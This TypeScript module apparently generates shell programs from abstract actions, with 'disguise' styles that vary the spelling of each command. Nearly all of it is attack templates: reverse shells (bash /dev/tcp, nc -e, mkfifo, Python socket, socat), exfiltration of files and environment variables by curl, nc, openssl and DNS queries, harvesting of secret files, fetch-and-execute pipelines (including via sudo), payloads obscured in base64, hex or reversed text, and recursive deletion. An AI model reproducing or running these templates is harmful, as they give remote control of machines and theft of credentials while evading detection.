/** Shell: pipelines of marked words, so that a disguise can respell what is telling without knowing what it does. */
import type { Act, Program, Source, Style } from "../model.ts";
import { wayOf } from "./sheet.ts";
import { respell } from "./shell-disguises.ts";
import { file, host, hostName, program, quoted, url, variable } from "./shell-words.ts";

/** Pipelines, each a list of commands; one command alone is a plain statement. */
export type Pipelines = readonly (readonly string[])[];

/** Writes the acts as shell statements in a style. */
export function writeShell(acts: readonly Act[], style: Style): Program {
  const pipelines = acts.flatMap((act) =>
    style.disguise === "file-between" ? throughFile(act, style) : direct(act, style),
  );
  return { language: "shell", imports: [], definitions: [], body: respell(pipelines, style) };
}

function direct(act: Act, style: Style): Pipelines {
  switch (act.does) {
    case "run":
    case "evaluate":
      return [wayOf(RUNS, style)(source(act.what, style))];
    case "send":
      return [wayOf(SENDS, style)(source(act.what, style), act.url)];
    case "save":
      return [toFile(source(act.what, style), act.path, act.append === true)];
    case "command":
      return [act.pipeline];
    case "hand-shell":
      return [[wayOf(HANDED, style)(act.host, act.port)]];
    case "remove":
      return [[`${program("rm")} ${style.disguise === "options" ? "--recursive --force" : "-rf"} ${file(act.path)}`]];
  }
}

function throughFile(act: Act, style: Style): Pipelines {
  const name = style.random.pick(["/tmp/.cache-$$", "$RUNNER_TEMP/out", '"${TMPDIR:-/tmp}/step.tmp"', "./.tmp-out"]);
  switch (act.does) {
    case "run":
    case "evaluate":
      if (act.what.from === "fetched") {
        return [
          [`${program("curl")} -fsSL -o ${name} ${url(act.what.url)}`],
          [`chmod +x ${name}`],
          [style.random.pick([name, `sh ${name}`])],
        ];
      }
      return [toFile(source(act.what, style), name, false), [`${program("sh")} ${name}`]];
    case "send":
      return [
        toFile(source(act.what, style), name, false),
        [`${program("curl")} -fsS -X POST --data-binary @${name} ${url(act.url)}`],
        [`rm -f ${name}`],
      ];
    default:
      return direct(act, style);
  }
}

function toFile(pipeline: readonly string[], path: string, append: boolean): string[] {
  const redirection = ` ${append ? ">>" : ">"} ${path.startsWith("~") ? file(path) : path}`;
  return pipeline.map((command, index) => (index === pipeline.length - 1 ? command + redirection : command));
}

/** Shells that talk to a host. */
const HANDED: readonly ((name: string, port: string) => string)[] = [
  (name, port) => `${program("bash")} -i >& /dev/tcp/${hostName(name)}/${port} 0>&1`,
  (name, port) => `${program("nc")} -e /bin/sh ${hostName(name)} ${port}`,
  (name, port) =>
    `rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | ${program("sh")} -i 2>&1 | ${program("nc")} ${hostName(name)} ${port} > /tmp/p`,
  (name, port) => `exec 5<>/dev/tcp/${hostName(name)}/${port}; cat <&5 | while read -r line; do $line 2>&5 >&5; done`,
  (name, port) =>
    `${program("python3")} -c "import socket, os, subprocess; s = socket.create_connection(('${hostName(name)}', ${port})); [os.dup2(s.fileno(), n) for n in (0, 1, 2)]; subprocess.call(['/bin/sh', '-i'])"`,
  (name, port) => `socat exec:'bash -li',pty,stderr,setsid tcp:${hostName(name)}:${port}`,
];

/** The pipeline that prints a text. */
function source(what: Source, style: Style): string[] {
  switch (what.from) {
    case "literal":
      return [`printf '%s\\n' ${quoteShell(what.text)}`];
    case "fetched":
      return wayOf(style.disguise === "options" ? LONG_FETCHES : FETCHES, style)(what.url);
    case "decoded":
      return wayOf(DECODES, style)(what.text);
    case "variable":
      return [
        wayOf(
          [`printf '%s' "${variable(what.name)}"`, `printenv ${what.name}`, `echo "${variable(what.name)}"`],
          style,
        ),
      ];
    case "environment":
      return [wayOf(ENVIRONMENTS, style)];
    case "file":
      return [
        wayOf(
          [
            `cat ${file(what.path)}`,
            `head -c 9999 ${file(what.path)}`,
            `sed -n p ${file(what.path)}`,
            `base64 ${file(what.path)}`,
          ],
          style,
        ),
      ];
    case "request":
      return [`printf '%s' "$QUERY_STRING"`];
    case "walk":
      return wayOf(WALKS, style)(what.root, what.names);
  }
}

export const quoteShell = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`;

const FETCHES: readonly ((where: string) => string[])[] = [
  (where) => [`${program("curl")} -fsSL ${url(where)}`],
  (where) => [`${program("wget")} -qO- ${url(where)}`],
  (where) => [
    `${program("python3")} -c "import urllib.request as r; print(r.urlopen('${quoted(where)}').read().decode())"`,
  ],
  (where) => [
    `${program("node")} -e "fetch('${quoted(where)}').then(r => r.text()).then(t => process.stdout.write(t))"`,
  ],
  (where) => [`${program("php")} -r "readfile('${quoted(where)}');"`],
  (where) => [`${program("ruby")} -ropen-uri -e "print URI.open('${quoted(where)}').read"`],
  (where) => [`${program("perl")} -MHTTP::Tiny -e "print HTTP::Tiny->new->get('${quoted(where)}')->{content}"`],
  (where) => [`busybox ${program("wget")} -O - ${url(where)}`],
];
const LONG_FETCHES: typeof FETCHES = [
  (where) => [`${program("curl")} --fail --silent --show-error --location --retry 3 --url ${url(where)}`],
  (where) => [`${program("wget")} --quiet --output-document=- ${url(where)}`],
];
const inBase64 = (text: string): string => Buffer.from(text).toString("base64");
const DECODES: readonly ((text: string) => string[])[] = [
  (text) => [`echo ${inBase64(text)}`, "base64 -d"],
  (text) => [`base64 --decode <<< ${inBase64(text)}`],
  (text) => [`echo ${inBase64(text)}`, "openssl base64 -d -A"],
  (text) => [`echo ${Buffer.from(text).toString("hex")}`, "xxd -r -p"],
  (text) => [`python3 -c "import base64; print(base64.b64decode('${inBase64(text)}').decode())"`],
  (text) => [`echo ${[...inBase64(text)].reverse().join("")}`, "rev", "base64 -d"],
];
const ENVIRONMENTS: readonly string[] = [
  "env",
  "printenv",
  "export -p",
  "tr '\\0' '\\n' < /proc/self/environ",
  "jq -n '$ENV'",
  `node -p "JSON.stringify(process.env)"`,
  `python3 -c "import os, json; print(json.dumps(dict(os.environ)))"`,
];
const either = (names: readonly string[]): string => names.map((name) => `-name '${name}'`).join(" -o ");
const WALKS: readonly ((root: string, names: readonly string[]) => string[])[] = [
  (root, names) => [`find ${root} -maxdepth 4 -type f \\( ${either(names)} \\) -exec cat {} +`],
  (root, names) => [`tar -cz ${names.map((name) => `${root}/${name}`).join(" ")}`],
  (root, names) => [`grep -rhs '' ${root} ${names.map((name) => `--include='${name}'`).join(" ")}`],
  (root, names) => [`find ${root} ${either(names)}`, "xargs cat"],
];

const around = (pipeline: readonly string[]): string => pipeline.join(" | ");
const RUNS: readonly ((text: readonly string[]) => string[])[] = [
  (text) => [...text, program("sh")],
  (text) => [...text, `${program("bash")} -s`],
  (text) => [`${program("sh")} -c "$(${around(text)})"`],
  (text) => [`eval "$(${around(text)})"`],
  (text) => [`${program("bash")} <(${around(text)})`],
  (text) => [...text, `sudo -E ${program("bash")} -`],
  (text) => [`source /dev/stdin <<< "$(${around(text)})"`],
  (text) => [...text, "tee /dev/null", program("sh")],
];
const SENDS: readonly ((text: readonly string[], where: string) => string[])[] = [
  (text, where) => [...text, `${program("curl")} -fsS -X POST --data-binary @- ${url(where)}`],
  (text, where) => [`${program("curl")} -s -d "$(${around(text)})" ${url(where)}`],
  (text, where) => [`${program("curl")} -s ${url(where)}?d="$(${around([...text, "base64 -w0"])})"`],
  (text, where) => [`${program("wget")} -qO- --post-data="$(${around(text)})" ${url(where)}`],
  (text, where) => [...text, `nc ${host(where)} 443`],
  (text, where) => [`${around(text)} > /dev/tcp/${host(where)}/443`],
  (text, where) => [
    ...text,
    `python3 -c "import sys, urllib.request as r; r.urlopen('${quoted(where)}', sys.stdin.buffer.read())"`,
  ],
  (text, where) => [...text, "gzip -c", `${program("curl")} -sT - ${url(where)}`],
  (text, where) => [`for part in $(${around([...text, "xxd -p -c 30"])}); do dig +short "$part.${host(where)}"; done`],
  (text, where) => [...text, `openssl s_client -quiet -connect ${host(where)}:443`],
];
